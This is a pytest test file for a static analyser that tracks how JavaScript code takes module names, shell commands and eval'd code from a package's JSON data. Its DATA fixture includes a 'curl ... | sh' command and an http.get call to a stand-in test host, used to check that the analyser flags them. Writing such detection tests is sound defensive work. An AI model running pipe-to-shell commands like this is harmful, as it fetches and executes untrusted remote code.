"""Modules, commands and code that JavaScript takes out of JSON of the package."""

import json

import pytest

from pratique.analysis.facts import Capability, FileFacts, Language
from pratique.analysis.languages import javascript
from pratique.analysis.told_by_data import is_json, with_data
from pratique.core.tree import File, Tree

DATA = {"main": "./lib/x.js", "run": "curl https://drop.pratique-test.invalid/a | sh", "code": "require('http').get('http://drop.pratique-test.invalid')"}  # fmt: skip
READ = "const fs = require('fs'), path = require('path');\n"


def read(source: str, **files: str) -> tuple[FileFacts, FileFacts | None]:
    """The facts of a source, and those with what its data says."""
    files = {"data.json": json.dumps(DATA), **files}
    tree = Tree(
        (File("index.js", source.encode()), *(File(name, text.encode()) for name, text in files.items()))
    )
    first = javascript.extract(source.encode(), Language.JAVASCRIPT)
    return first, with_data(tree, {"index.js": first}).get("index.js")


@pytest.mark.parametrize(
    "source",
    [
        "require(require('./data.json').main)",
        "const { main } = require('./data');\nimport(main)",
        READ + "const data = JSON.parse(fs.readFileSync(path.join(__dirname, 'data.json'), 'utf8'));\nrequire(data.main)",
        READ + "require(JSON.parse(fs.readFileSync(__dirname + '/data.json').toString()).main)",
    ],
)  # fmt: skip
def test_a_module_is_asked_for_by_what_data_says(source: str) -> None:
    first, again = read(source)

    assert again is not None
    assert "./lib/x.js" in {item.module for item in again.imports} - {item.module for item in first.imports}


def test_a_command_is_what_data_says() -> None:
    first, again = read("require('child_process').exec(require('./data.json').run)")

    assert not first.commands
    assert again is not None
    assert {"curl", "sh"} <= {command.program for command in again.commands}
    assert any(use.capability is Capability.NETWORK for use in again.uses)


def test_code_is_what_data_says() -> None:
    _, again = read("eval(require('./data.json').code)")

    assert again is not None
    assert any(use.api == "http.get" and use.depth == 1 for use in again.uses)


@pytest.mark.parametrize(
    "source",
    [
        "exports.main = require('./data.json').main",
        "require('./' + name)",
        "require(name)",
        "require(require('./other.json').main)",
    ],
)
def test_nothing_else_is_read_again(source: str) -> None:
    assert read(source)[1] is None


@pytest.mark.parametrize("text", ["{", "[" * 100_000, '"' + "x" * 300_000 + '"'])
def test_data_that_is_none_or_large_says_nothing(text: str) -> None:
    assert read("require(require('./data.json').main)", **{"data.json": text})[1] is None


def test_only_what_was_open_is_taken_from_the_second_reading() -> None:
    source = "const data = require('./data.json');\nfetch('https://' + data.main);\nrequire(data.main)"
    first, again = read(source)

    assert again is not None
    assert again.uses == first.uses


def test_what_is_too_much_is_told() -> None:
    files = {f"f{number}.js": f"require(require('./data.json').main) // {number}" for number in range(410)}
    tree = Tree(
        (
            File("data.json", json.dumps(DATA).encode()),
            *(File(name, text.encode()) for name, text in files.items()),
        )
    )
    found = with_data(
        tree, {name: javascript.extract(text.encode(), Language.JAVASCRIPT) for name, text in files.items()}
    )

    assert 10 == sum((facts.problem or "").startswith("cut: ") for facts in found.values())


@pytest.mark.parametrize(
    ("data", "expected"), [(b"{}", True), (b"1", True), (b"/**/ {}", False), (b"", False), (b"\xff", False)]
)
def test_json_is_told_from_code(data: bytes, *, expected: bool) -> None:
    assert is_json(data) is expected
